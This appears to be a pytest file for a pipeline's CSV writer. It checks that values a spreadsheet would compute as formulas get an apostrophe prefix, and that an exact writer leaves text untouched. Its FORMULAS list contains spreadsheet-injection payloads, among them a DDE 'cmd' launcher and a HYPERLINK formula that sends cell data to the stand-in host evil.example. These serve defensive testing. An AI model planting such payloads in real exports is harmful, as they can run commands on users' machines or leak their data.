"""Rows as CSV: what a spreadsheet would compute is text, and numbers are numbers."""

import csv
import io
from datetime import date

import polars as pl
import pytest

from pipeline.cli.rows import write_csv, write_exact_csv

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "+1", "-1+1", "-X", "@SUM(A1)", "\t=1",
    "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A",
]  # fmt: skip
TEXTS = ["AAPL", "", "NA", "A=1", "'=1", " =1", "1E5", "BRK.A", 'a"b', "a,b"]


def written(rows: pl.DataFrame, capsys: pytest.CaptureFixture[str], write=write_csv) -> list[dict[str, str]]:
    write(rows)
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(formula, capsys):
    (row,) = written(pl.DataFrame({"ticker": [formula]}), capsys)
    assert row == {"ticker": f"'{formula}"}


@pytest.mark.parametrize("text", TEXTS)
def test_any_other_text_is_as_it_is_in_the_table(text, capsys):
    assert written(pl.DataFrame({"ticker": [text], "n": [1]}), capsys) == [{"ticker": text, "n": "1"}]


def test_numbers_dates_and_what_is_missing_stay_what_they_are(capsys):
    rows = pl.DataFrame({"i": [-1], "f": [-0.5], "d": [date(2024, 1, 5)], "none": pl.Series([None], dtype=pl.String)})
    assert written(rows, capsys) == [{"i": "-1", "f": "-0.5", "d": "2024-01-05", "none": ""}]


def test_the_name_of_a_column_is_no_formula_either(capsys):
    assert list(written(pl.DataFrame({"=1+1": ["x"]}), capsys)[0]) == ["'=1+1"]


def test_what_is_nested_begins_with_a_bracket_whatever_is_in_it(capsys):
    (row,) = written(pl.DataFrame({"list": [["=1+1"]], "struct": [{"a": "=1"}]}), capsys)
    assert row == {"list": '["=1+1"]', "struct": '{"a": "=1"}'}


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS])
def test_for_programs_every_text_is_as_it_is(text, capsys):
    assert written(pl.DataFrame({"=t": [text], "n": [1]}), capsys, write_exact_csv) == [{"=t": text, "n": "1"}]
